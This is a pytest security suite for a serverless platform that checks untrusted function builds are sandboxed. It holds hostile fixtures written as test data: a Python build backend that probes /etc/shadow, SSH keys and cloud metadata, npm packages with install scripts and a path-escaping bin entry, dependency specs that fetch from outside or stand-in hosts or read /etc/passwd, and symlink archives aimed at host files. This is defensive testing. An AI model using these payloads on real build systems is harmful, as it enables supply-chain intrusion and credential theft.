"""Builds of strangers' code: what runs is shut in as a function is, and what must not run does not."""

from __future__ import annotations

import base64
import json
import tarfile
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from security.hostile.conftest import SCALING, hostile_languages
from security.hostile.test_hostile_network import METADATA
from support.archives import special, tar_gz
from support.hostile_platform import CANARY, NEIGHBOUR_SECRET, NPM, PACKAGES, WalledPlatform, source
from support.npm_registry import NpmRegistry, package
from support.package_index import PackageIndex
from support.python_packages import BACKEND, sdist

HANDLE = "def handle(event, context):\n    return 1\n"
RUN_ALL = """
import json, subprocess, sys
for name, told in json.load(open("plan.json")).items():
    run = subprocess.run([sys.executable, "-B", "vehicle/run.py", name], input=json.dumps(told), capture_output=True, text=True)
    try:
        found = json.loads(run.stdout)
        print("ATTACK", name, json.dumps({"got": found["got"], "refused": len(found["refused"])})[:8000], flush=True)
    except ValueError:
        print("ATTACK", name, json.dumps({"got": {"broken": run.stdout + run.stderr[-2000:]}, "refused": 0}), flush=True)
"""


def test_a_package_s_build_that_attacks(platform: WalledPlatform) -> None:
    """A source package (what a setup.py is today): its build looks for everything that a function looked for."""
    paths = ["/etc/shadow", "/root/.ssh", "/home", str(platform.data), str(platform.data / "run/platform.json")]
    sockets = [str(path) for path in platform.data.rglob("*") if path.is_socket()]
    with platform.wall.listen(*METADATA) as server:
        plan = {
            "read": {"paths": paths},
            "processes": {
                "canary": CANARY,
                "host_pids": [pid for pid in platform.pids.values() if pid > 1000],
                "own_names": ["bwrap", "run.py", "build_wheel.py"],
            },
            "search": {"needles": [NEIGHBOUR_SECRET, CANARY]},
            "unix_sockets": {"paths": sockets, "abstract": ["ffx-build"]},
            "connect": {"targets": [METADATA, ("127.0.0.1", platform.port), ("127.0.0.1", PACKAGES)]},
            **{
                name: {} for name in ("devices", "mounts", "namespaces", "other_processes", "kernel_services", "powers")
            },
        }
        files = {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "own_backend"\nbackend-path = ["build_here"]\n',
            "build_here/own_backend.py": RUN_ALL + BACKEND,
            "contents/hostile.py": "X = 1\n",
            "plan.json": json.dumps(plan),
            **{
                path.removeprefix("python/"): text
                for path, text in source("python", "vehicle").items()
                if "vehicle" in path
            },
        }
        with PackageIndex(listener=platform.wall.listen("127.0.0.1", PACKAGES)) as index:
            index.add("hostile-1.0.tar.gz", sdist("hostile", files=files))
            platform.deploy("builds", "python", {"main.py": HANDLE, "requirements.txt": "hostile\n"}, scaling=SCALING)
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()
    told = [line.split(" ", 2)[1:] for line in platform.build_log("builds") if line.startswith("ATTACK ")]
    found = {name: json.loads(text) for name, text in told}
    assert found.keys() == plan.keys()
    for name, one in found.items():
        assert one["got"] == {}, (name, one)
        assert one["refused"] > 0, name
    platform.delete("builds")


EVIL = {name: "node ran.js" for name in ("preinstall", "install", "postinstall", "prepare", "prepublish", "preprepare")}
RAN = "require('fs').writeFileSync(require('path').join(__dirname, 'ran'), 'x')\n"
LISTS = """
import fs from 'node:fs';
export const handle = () => ({
  evil: fs.readdirSync('/ffx/code/node_modules/evil'), own: fs.readdirSync('/ffx/code'), tmp: fs.readdirSync('/tmp'),
});
"""


def evil_package() -> tuple[dict[str, Any], bytes]:
    manifest = {
        "name": "evil",
        "version": "1.0.0",
        "scripts": EVIL,
        "bin": {"evil": "ran.js", "../../../escaped": "ran.js"},
    }
    files = {
        "package.json": json.dumps(manifest),
        "ran.js": RAN,
        "index.js": "",
        "binding.gyp": "{'targets': [{'actions': []}]}",
    }
    return manifest, package(files)


@pytest.mark.skipif("node" not in hostile_languages(), reason="there is no Node here")
def test_scripts_of_npm_packages_do_not_run(platform: WalledPlatform, attackers: object) -> None:
    """Nor those of the function itself; and its .npmrc has no say about where packages come from."""
    own = {"name": "x", "dependencies": {"evil": "1.0.0"}, "scripts": EVIL}
    npmrc = "registry=http://10.20.30.40:8000/\nignore-scripts=false\nscript-shell=/bin/sh\nnode-options=--require ./ran.js\n"
    files = {"index.mjs": LISTS, "package.json": json.dumps(own), "ran.js": RAN, ".npmrc": npmrc}
    with (
        platform.wall.listen("10.20.30.40", 8000) as other,
        NpmRegistry(
            platform.wall.listen("127.0.0.1", NPM), f"http://127.0.0.1:{NPM}", {"evil": evil_package()}
        ) as registry,
    ):
        platform.deploy("scripts", "node", files, scaling=SCALING)
        assert registry.asked
        other.setblocking(False)
        with pytest.raises(BlockingIOError):
            other.accept()
    found = platform.call("GET", "/f/admin/scripts").json()
    assert "ran" not in found["evil"]
    assert "ran" not in found["own"]
    platform.delete("scripts")


def locked(**entry: Any) -> dict[str, str]:
    """A Node function whose lock file has that entry for its one package."""
    lock = {"lockfileVersion": 3, "packages": {"": {"dependencies": {"evil": "1.0.0"}}, "node_modules/evil": entry}}
    return {**asks(evil="1.0.0"), "package-lock.json": json.dumps(lock)}


def asks(**dependencies: str) -> dict[str, str]:
    return {"index.mjs": LISTS, "package.json": json.dumps({"name": "x", "dependencies": dependencies})}


def go(code: str, **more: str) -> dict[str, str]:
    imports, _, rest = code.partition("\n\n")
    handler = (
        f'package function\n\nimport (\n\t"context"\n\t"faasioflex.dev/faasioflex"\n{imports}\n)\n\n{rest}\n\n'
        "func Handle(ctx context.Context, event faasioflex.Event) (any, error) { return stolen, nil }\n"
    )
    return {
        "handler.go": handler,
        "go.mod": "module evil\n\ngo 1.24\n",
        **{name.replace("__", "."): text for name, text in more.items()},
    }


LINKNAME = (
    "//go:linkname stop runtime.stopTheWorldGC\nfunc stop(int8)\n\nvar stolen = func() int { stop(0); return 1 }()"
)
MODULE = "module evil\n\ngo 1.24\n\nrequire x.y/z v1.0.0\n\nreplace x.y/z => "
EMBED = '\t_ "embed"\n\n//go:embed %s\nvar stolen string'
REFUSED: dict[str, tuple[str, dict[str, str]]] = {
    "lock-file": ("node", locked(version="1.0.0", resolved="file:../../../etc")),
    "lock-git": ("node", locked(version="1.0.0", resolved="git+ssh://git@evil.example/x.git#1")),
    "lock-url": ("node", locked(version="1.0.0", resolved="http://10.20.30.40:8000/evil.tgz")),
    "lock-link": ("node", locked(link=True, resolved="../../etc")),
    "file": ("node", asks(evil="file:/etc")),
    "git": ("node", asks(evil="git+http://10.20.30.40:8000/x.git")),
    "url": ("node", asks(evil="http://10.20.30.40:8000/evil.tgz")),
    "github": ("node", asks(evil="somebody/something")),
    "link": ("node", asks(evil="link:/etc")),
    "alias": ("node", asks(evil="npm:../../etc@1")),
    "cgo": ("go", go('\t"C"\n\nvar stolen = C.x')),
    "embed-absolute": ("go", go(EMBED % "/etc/passwd")),
    "embed-above": ("go", go(EMBED % "../../../etc/passwd")),
    "replace": ("go", go("\n\nvar stolen = 1", go__mod=MODULE + "/etc\n")),
    "replace-above": ("go", go("\n\nvar stolen = 1", go__mod=MODULE + "../../x\n")),
    "toolchain": ("go", go("\n\nvar stolen = 1", go__mod="module evil\n\ngo 1.99\n\ntoolchain go1.99.9\n")),
    "linkname": ("go", go('\t_ "unsafe"\n\n' + LINKNAME)),
    "pip-url": ("python", {"main.py": HANDLE, "requirements.txt": "evil @ http://10.20.30.40:8000/evil-1.0.tar.gz\n"}),
    "pip-file": ("python", {"main.py": HANDLE, "requirements.txt": "evil @ file:///etc\n"}),
    "pip-git": ("python", {"main.py": HANDLE, "requirements.txt": "evil @ git+http://10.20.30.40:8000/x.git\n"}),
    "pip-option": ("python", {"main.py": HANDLE, "requirements.txt": "--index-url http://10.20.30.40:8000/simple\nevil\n"}),
    "pip-include": ("python", {"main.py": HANDLE, "requirements.txt": "-r /etc/passwd\n"}),
}  # fmt: skip


REASONS = {
    **dict.fromkeys(("lock", "file", "git", "url", "github", "link"), "only packages of this machine's npm registry"),
    **{"lock-link": "a folder of its own", "alias": "is not the name of a package", "cgo": "uses cgo", "embed": "invalid pattern"},
    **{"replace": "replaced by", "toolchain": "requires go", "linkname": "invalid reference", "pip": "only packages of this machine's"},
    **dict.fromkeys(("pip-option", "pip-include"), "options are not taken"),
}  # fmt: skip


@pytest.mark.timeout(500)
def test_what_a_build_refuses(platform: WalledPlatform, attackers: object) -> None:
    """Packages from elsewhere, files of the host, other tools: each is said no to, and nobody was asked for it."""
    wanted = {name: one for name, one in REFUSED.items() if one[0] in hostile_languages()}

    def tried(name: str) -> tuple[str, dict[str, Any]]:
        language, files = wanted[name]
        return name, platform.register(f"refused-{name}", language, files)["status"]["latest"]

    with platform.wall.listen("10.20.30.40", 8000) as elsewhere:
        with ThreadPoolExecutor(4) as pool:
            found = dict(pool.map(tried, wanted))
        elsewhere.setblocking(False)
        with pytest.raises(BlockingIOError):
            elsewhere.accept()
    for name, latest in found.items():
        assert latest["state"] == "failed", (name, latest)
        assert REASONS[name.partition("-")[0]] in latest["message"] or REASONS.get(name, "?") in latest["message"], (
            name,
            latest,
        )
        assert "root:" not in latest["message"], (name, latest)
        platform.delete(f"refused-{name}")


def test_links_in_an_archive(platform: WalledPlatform) -> None:
    """They lead nowhere: the archive is refused before anything is stored."""
    for target in ("/etc/passwd", "../../../../etc/passwd", "/proc/self/environ"):
        packed = base64.b64encode(tar_gz([special("main.py", tarfile.SYMTYPE, target)])).decode()
        body = {"name": "links", "runtime": "python", "source": {"archive": packed}}
        answer = platform.call("POST", "/functions/register", body)
        assert answer.status == 422, answer.body
        assert answer.json()["code"] == "bad-archive"
